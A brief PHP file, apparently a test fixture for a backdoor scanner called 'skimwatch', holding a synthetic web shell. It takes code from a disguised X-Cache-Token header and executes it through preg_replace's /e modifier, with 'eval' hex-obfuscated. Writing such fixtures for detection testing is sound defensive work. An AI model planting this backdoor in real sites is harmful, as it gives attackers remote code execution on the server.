<?php
// Synthetic /e backdoor for skimwatch tests (PHP 5 era).
$p = isset($_SERVER['HTTP_X_CACHE_TOKEN']) ? $_SERVER['HTTP_X_CACHE_TOKEN'] : '';
echo preg_replace("/.*/e", "\x65\x76\x61\x6C('$p');", "");
